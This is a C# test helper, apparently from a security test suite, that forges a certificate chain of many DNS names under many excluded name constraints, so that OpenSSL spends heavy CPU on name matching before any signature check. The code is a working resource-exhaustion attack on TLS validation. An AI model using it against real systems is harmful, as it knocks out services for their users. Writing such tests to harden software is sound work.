using System.Formats.Asn1;
using System.Net.Security;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;

namespace SecureCollectives.Testing.Attacks;

/// <summary>
/// A chain that needs no valid signature and is expensive to check: a leaf with many names below an authority with many name constraints.
/// OpenSSL compares each name with each constraint, up to 2^20 times, before it verifies a signature.
/// </summary>
internal static class ForgedChain
{
    /// <summary>The maximum number of names that OpenSSL compares.</summary>
    public const int MaxNames = 1000;

    private const string NameConstraintsOid = "2.5.29.30";
    private const string SubjectAlternativeNameOid = "2.5.29.17";
    private const string Digits = "abcdefghijklmnopqrstuvwxyz0123456789";

    private static readonly Asn1Tag DnsName = new(TagClass.ContextSpecific, 2);
    private static readonly Asn1Tag ExcludedSubtrees = new(TagClass.ContextSpecific, 1);

    /// <param name="names">The number of names in the leaf; the authority has slightly more constraints.</param>
    /// <param name="nameLength">Characters per name. With a thousand names, 3 characters make a chain of 14 KiB, and 20 make one of 50
    /// KiB.</param>
    public static SslStreamCertificateContext Create(int names, int nameLength = 3)
    {
        using var rootKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var authorityKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var leafKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var from = DateTimeOffset.UtcNow.AddHours(-1);
        var until = from.AddHours(2);

        var authority = new CertificateRequest("CN=b", authorityKey, HashAlgorithmName.SHA256);
        authority.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, critical: true));
        authority.CertificateExtensions.Add(
            new X509Extension(NameConstraintsOid, Constraints(names + (names / 25), nameLength), critical: false));
        var issuer = authority.Create(new X500DistinguishedName("CN=a"), X509SignatureGenerator.CreateForECDsa(rootKey), from, until, [1]);

        var leaf = new CertificateRequest("CN=c", leafKey, HashAlgorithmName.SHA256);
        leaf.CertificateExtensions.Add(new X509Extension(SubjectAlternativeNameOid, Names(names, nameLength), critical: false));
        using var bare = leaf.Create(issuer.SubjectName, X509SignatureGenerator.CreateForECDsa(authorityKey), from, until, [2]);
        return SslStreamCertificateContext.Create(bare.CopyWithPrivateKey(leafKey), [issuer], offline: true);
    }

    private static byte[] Names(int count, int length)
    {
        var writer = new AsnWriter(AsnEncodingRules.DER);
        using (writer.PushSequence())
        {
            for (var i = 0; i < count; i++)
            {
                writer.WriteCharacterString(UniversalTagNumber.IA5String, Name('n', i, length), DnsName);
            }
        }

        return writer.Encode();
    }

    /// <summary>Excludes names that the leaf does not have, so that each of its names is compared with all of them.</summary>
    private static byte[] Constraints(int count, int length)
    {
        var writer = new AsnWriter(AsnEncodingRules.DER);
        using (writer.PushSequence())
        using (writer.PushSequence(ExcludedSubtrees))
        {
            for (var i = 0; i < count; i++)
            {
                using (writer.PushSequence())
                {
                    writer.WriteCharacterString(UniversalTagNumber.IA5String, Name('x', i, length), DnsName);
                }
            }
        }

        return writer.Encode();
    }

    private static string Name(char first, int number, int length) =>
        $"{first}{Digits[number / Digits.Length % Digits.Length]}{Digits[number % Digits.Length]}".PadRight(length, first);
}
